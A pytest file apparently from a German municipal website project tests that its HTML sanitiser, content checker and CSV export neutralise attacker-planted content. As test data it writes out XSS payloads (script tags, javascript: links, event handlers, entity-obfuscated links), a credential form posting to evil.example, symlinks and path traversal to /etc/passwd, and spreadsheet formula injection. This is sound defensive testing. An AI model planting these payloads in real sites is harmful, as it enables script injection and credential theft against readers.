"""An editor's account used as an attacker would (issue: no script from content): every
planted construct is either stopped by ``invoke check`` with ``path:line`` or neutralised in
what the site serves. Pelican-free except the two build tests at the end (marked slow)."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import os
import re
from pathlib import Path

import pytest

from content_model import html_policy
from content_model.check import check_content, errors_only
from content_model.release import legal_placeholders, unreviewed_without_notice
from content_model.render import policy_errors, to_html
from inka_engine import load_holidays, occurrences
from inka_engine.export import spreadsheet_safe, to_csv

ROOT = Path(__file__).resolve().parents[2]
CONTENT = ROOT / "content"
NEWS = "news/2025-06-02-internationale-woche-2025.md"
BUILD_DATE = dt.date(2026, 5, 28)


# --- the policy itself ------------------------------------------------------------------------

@pytest.mark.parametrize(("source", "gone", "kept"), [
    ('<script>alert(1)</script><p>Text</p>', "<script", "<p>Text</p>"),
    ('<a href="/kontakt/" onmouseover="alert(1)">Kontakt</a>', "onmouseover",
     '<a href="/kontakt/">Kontakt</a>'),
    ('<a href="javascript:alert(1)">x</a>', "javascript", "<a>x</a>"),
    ('<a href="java\tscript:alert(1)">x</a>', "script:", "<a>x</a>"),
    ('<img src="data:image/svg+xml;base64,AAAA" alt="Bild">', "data:", 'alt="Bild"'),
    ('<form action="https://evil.example/"><input name="pw">Senden</form>', "<form", "Senden"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta", ""),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe", ""),
    ('<base href="https://evil.example/">', "<base", ""),
    ('<style>body{display:none}</style>', "<style", ""),
    ('<p style="position:fixed">x</p>', "style", "<p>x</p>"),
    ('<div class="site-header">x</div>', "site-header", ">x</div>"),
    ('<svg onload="alert(1)"></svg>', "<svg", ""),
])
def test_clean_drops_what_could_run_or_leave(source: str, gone: str, kept: str) -> None:
    cleaned = str(html_policy.clean(source))
    assert gone not in cleaned
    assert kept in cleaned


def test_clean_keeps_what_editors_use() -> None:
    source = ('<h2 id="termine">Termine</h2><p lang="tr" dir="ltr"><abbr title="Kommunales '
              'Integrationszentrum">KI</abbr> <a href="https://www.dortmund.de/">Stadt</a> '
              '<a href="mailto:x@dortmund.de">Mail</a> <a href="tel:+49231">Tel</a></p>'
              '<details><summary>Mehr</summary><p>Text</p></details>'
              '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td>1</td></tr>'
              '</tbody></table><img src="/images/foto.jpg" alt="Foto" width="10" height="5">'
              '<a href="{filename}/pages/kontakt.md">intern</a>')
    assert str(html_policy.clean(source)) == source


@pytest.mark.slow  # renders every body of the real content (~700 files)
def test_real_content_passes_the_policy_unchanged() -> None:
    """Every body of our own content is inside the policy: nothing is lost by sanitising."""
    for path in sorted(CONTENT.rglob("*.md")):
        text = path.read_text(encoding="utf-8")
        body = text.split("---", 2)[2]
        rendered = to_html(body)
        assert html_policy.problems(rendered, body, 1) == [], path


# --- check and build report each planted construct with its line -----------------------------

ATTACKS = """

<script src="/images/foto.js"></script>
[Mehr erfahren](javascript:alert(document.cookie))
Hier <a href="/kontakt/" onmouseover="alert(1)">Kontakt</a>.

<form action="https://evil.example/steal"><input name="pw"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">

## Termine {: onclick="alert(1)" }

<a href="&#106;avascript:alert(1)">versteckt</a>
"""


def _planted_lines(body: str, first: int) -> dict[str, int]:
    lines = body.split("\n")
    marks = {"<script": "script", "javascript:alert(document": "link", "onmouseover": "handler",
             "<form": "form", "<meta": "meta", "onclick": "attr_list", "&#106;": "entity"}
    found = {}
    for needle, name in marks.items():
        found[name] = first + next(i for i, line in enumerate(lines) if needle in line)
    return found


def test_policy_errors_name_the_line_of_each_attack() -> None:
    body = "Ein harmloser Absatz." + ATTACKS
    errors = policy_errors("content/news/x.md", body, 10)
    lines = _planted_lines(body, 10)
    by_line: dict[int, list[str]] = {}
    for error in errors:
        assert error.path == "content/news/x.md"
        by_line.setdefault(error.line, []).append(error.message)
    assert any("<script>" in m for m in by_line[lines["script"]])
    assert any("'javascript:'" in m for m in by_line[lines["link"]])
    assert any("'onmouseover'" in m for m in by_line[lines["handler"]])
    assert any("<form>" in m for m in by_line[lines["form"]])
    assert any("<input>" in m for m in by_line[lines["form"]])
    assert any("<meta>" in m for m in by_line[lines["meta"]])
    assert any("'onclick'" in m for m in by_line[lines["attr_list"]])
    assert any("'javascript:'" in m for m in by_line[lines["entity"]])


@pytest.fixture
def content_copy(real_content_copy: Path) -> Path:
    """The whole real content to attack (tests/conftest.py: a test that uses it is `slow`)."""
    return real_content_copy


def _check(content: Path) -> list[str]:
    return [str(e) for e in errors_only(check_content(content, BUILD_DATE))]


def test_check_stops_planted_script_and_handlers(content_copy: Path) -> None:
    news = content_copy / NEWS
    before = news.read_text(encoding="utf-8")
    news.write_text(before + ATTACKS, encoding="utf-8")
    first = len(before.split("\n"))  # the body line where ATTACKS' first line lands
    lines = _planted_lines(ATTACKS, first)
    errors = _check(content_copy)
    shown = f"content/{NEWS}"
    for name in ("script", "link", "handler", "form", "meta", "attr_list", "entity"):
        assert any(e.startswith(f"{shown}:{lines[name]}: ") for e in errors), (name, errors)


def test_check_refuses_a_script_file_in_images(content_copy: Path) -> None:
    (content_copy / "images").mkdir(exist_ok=True)
    (content_copy / "images" / "foto.js").write_text("alert(1)", encoding="utf-8")
    (content_copy / "images" / "logo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', encoding="utf-8")
    errors = _check(content_copy)
    assert any(e.startswith("content/images/foto.js:1: Dateityp '.js' wird nicht") for e in errors)
    assert any(e.startswith("content/images/logo.svg:1: Dateityp '.svg'") for e in errors)


def test_check_refuses_symlinks_to_files_and_folders(content_copy: Path, tmp_path: Path) -> None:
    (content_copy / "images").mkdir(exist_ok=True)
    os.symlink("/etc/passwd", content_copy / "images" / "passwd.txt")
    big = tmp_path / "host-folder"
    big.mkdir()
    os.symlink(big, content_copy / "pages" / "mehr")
    errors = _check(content_copy)
    assert "content/images/passwd.txt:1: symbolischer Link ist nicht erlaubt" in errors[0] or any(
        e.startswith("content/images/passwd.txt:1: symbolischer Link") for e in errors)
    assert any(e.startswith("content/pages/mehr:1: symbolischer Link") for e in errors)


def test_check_refuses_paths_out_of_the_project(content_copy: Path) -> None:
    topic = content_copy / "pages" / "themen" / "sprachmittlung.md"
    text = topic.read_text(encoding="utf-8")
    text = text.replace("lang: de\n", "lang: de\ntemplate: ../../etc/passwd\n", 1)
    text += "\n[Passwörter]({static}/../../../etc/passwd)\n"
    topic.write_text(text, encoding="utf-8")
    errors = _check(content_copy)
    shown = "content/pages/themen/sprachmittlung.md"
    lines = text.split("\n")
    template_line = next(i for i, x in enumerate(lines, 1) if x.startswith("template:"))
    link_line = next(i for i, x in enumerate(lines, 1) if "etc/passwd)" in x)
    assert f"{shown}:{template_line}: Vorlage '../../etc/passwd' gibt es nicht" in "\n".join(errors)
    assert any(e.startswith(f"{shown}:{link_line}: Link auf '{{static}}/../../../etc/passwd' "
                            "zeigt aus dem Ordner content/ hinaus") for e in errors)


# --- open data --------------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "expected"), [
    ("=HYPERLINK(\"https://evil.example\")", "'=HYPERLINK(\"https://evil.example\")"),
    ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("Ostersonntag", "Ostersonntag"), ("2026-04-05", "2026-04-05"), (3, 3),
])
def test_spreadsheet_safe(value: object, expected: object) -> None:
    assert spreadsheet_safe(value) == expected


def test_csv_neutralises_a_formula_in_a_holiday_name() -> None:
    holiday = next(h for h in load_holidays(CONTENT / "inka") if h.key == "ostersonntag")
    names = {**holiday.names, "de": '=HYPERLINK("https://evil.example","Ostern")'}
    evil = dataclasses.replace(holiday, names=names)
    found = occurrences([evil], dt.date(2026, 1, 1), dt.date(2026, 12, 31))
    rows = list(csv.DictReader(io.StringIO(to_csv(found).decode("utf-8-sig"))))
    assert rows
    assert rows[0]["name"].startswith("'=HYPERLINK(")


# --- release build ----------------------------------------------------------------------------

def test_release_refuses_placeholders_in_legal_pages(content_copy: Path) -> None:
    problems = [str(p) for p in legal_placeholders(content_copy)]
    impressum = (content_copy / "pages" / "impressum.md").read_text(encoding="utf-8")
    first = next(i for i, x in enumerate(impressum.splitlines(), 1) if "[Bitte ergänzen" in x)
    assert f"content/pages/impressum.md:{first}: Platzhalter in einer Pflichtseite" in \
        "\n".join(problems)
    for page in ("impressum", "datenschutz", "barrierefreiheit"):
        path = content_copy / "pages" / f"{page}.md"
        path.write_text(re.sub(r"\[Bitte ergänzen[^\]]*\]", "erledigt",
                               path.read_text(encoding="utf-8")), encoding="utf-8")
    problems = [str(p) for p in legal_placeholders(content_copy)]
    assert not [p for p in problems if p.startswith("content/pages/impressum.md:")]


def test_release_refuses_an_unreviewed_translation_without_notice(tmp_path: Path) -> None:
    content = tmp_path / "content"
    (content / "pages").mkdir(parents=True)
    (content / "pages" / "kontakt.tr.md").write_text(
        "---\ntitle: İletişim\nslug: kontakt\nlang: tr\nsummary: x\n"
        "translation_reviewed: false\n---\nMetin\n", encoding="utf-8")
    built = tmp_path / "output" / "tr" / "kontakt"
    built.mkdir(parents=True)
    (built / "index.html").write_text("<main><p>Metin</p></main>", encoding="utf-8")
    problems = [str(p) for p in unreviewed_without_notice(content, tmp_path / "output")]
    assert problems == ["content/pages/kontakt.tr.md:6: ungeprüfte Übersetzung ohne Hinweis für "
                        "die Leserinnen und Leser (tr/kontakt/) (der Hinweis, dass die deutsche "
                        "Fassung verbindlich ist, muss auf der Seite stehen)"]
    (built / "index.html").write_text('<p class="notice notice--language">…</p>',
                                      encoding="utf-8")
    assert unreviewed_without_notice(content, tmp_path / "output") == []
